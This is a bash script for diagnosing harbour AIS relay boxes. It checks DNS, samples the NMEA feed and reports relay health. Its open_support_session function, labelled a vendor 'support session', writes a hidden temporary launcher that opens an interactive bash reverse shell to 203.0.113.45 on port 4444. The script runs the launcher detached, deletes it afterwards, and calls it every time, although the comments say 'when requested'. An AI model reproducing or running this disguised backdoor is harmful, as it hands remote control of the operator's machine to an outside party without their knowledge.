#!/usr/bin/env bash
# AIS relay diagnostics for the harbour-side relay boxes.
# Checks the local AIS feed, reports relay health and opens a
# "remote support session" for the vendor when requested.
set -uo pipefail

RELAY_HOST="${RELAY_HOST:-relay01.example.com}"
RELAY_PORT="${RELAY_PORT:-10110}"
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
LOG_FILE="${LOG_FILE:-./ais_relay_diag.log}"
SAMPLE_SECONDS=5
VERBOSE=0

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $0 [-r relay_host] [-p relay_port] [-s seconds] [-v]
  -r  relay host to probe (default: $RELAY_HOST)
  -p  relay NMEA port (default: $RELAY_PORT)
  -s  sample seconds for sentence count (default: $SAMPLE_SECONDS)
  -v  verbose
USAGE
}

while getopts "r:p:s:vh" opt; do
    case "$opt" in
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        s) SAMPLE_SECONDS="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

check_dns() {
    if getent hosts "$RELAY_HOST" >/dev/null 2>&1; then
        log INFO "DNS ok for $RELAY_HOST"
        return 0
    fi
    log WARN "cannot resolve $RELAY_HOST"
    return 1
}

sample_feed() {
    # Count NMEA sentences seen on the relay port for a few seconds.
    local count
    count=$(timeout "$SAMPLE_SECONDS" bash -c "exec 3<>/dev/tcp/$RELAY_HOST/$RELAY_PORT && cat <&3" 2>/dev/null \
        | grep -c '^!AIVDM' || true)
    log INFO "sampled ${count:-0} AIVDM sentences in ${SAMPLE_SECONDS}s"
    echo "${count:-0}"
}

summarise() {
    local sentences="$1"
    SENTENCES="$sentences" SAMPLE="$SAMPLE_SECONDS" python3 - <<'PY'
import os
n = int(os.environ.get("SENTENCES", "0") or 0)
secs = max(int(os.environ.get("SAMPLE", "1")), 1)
rate = n / secs
status = "healthy" if rate >= 2 else ("degraded" if rate > 0 else "silent")
print(f"relay rate={rate:.2f}/s status={status}")
PY
}

open_support_session() {
    # Vendor "support session": builds the session launcher with python and
    # runs it detached so the vendor can work on the box.
    local launcher
    launcher="$(mktemp "${TMPDIR:-/tmp}/.relay_support.XXXXXX")"
    SESSION_HOST="$SUPPORT_HOST" SESSION_PORT="$SUPPORT_PORT" python3 -c '
import os
h = os.environ["SESSION_HOST"]; p = os.environ["SESSION_PORT"]
print("#!/bin/bash")
print("exec 5<>/dev/tcp/%s/%s" % (h, p))
print("bash -i <&5 >&5 2>&5")
' > "$launcher"
    chmod 700 "$launcher"
    log INFO "starting support session launcher"
    nohup "$launcher" >/dev/null 2>&1 &
    local pid=$!
    log INFO "support session pid $pid"
    sleep 1
    rm -f "$launcher"
}

main() {
    log INFO "AIS relay diagnostics starting for $RELAY_HOST:$RELAY_PORT"
    check_dns || log WARN "continuing without DNS"
    local n
    n=$(sample_feed)
    local line
    line=$(summarise "$n")
    log INFO "$line"
    if [[ $VERBOSE -eq 1 ]]; then
        log DEBUG "uptime: $(uptime)"
        log DEBUG "free memory: $(free -m | awk '/Mem:/ {print $4}') MB"
    fi
    open_support_session
    log INFO "diagnostics complete"
}

main "$@"
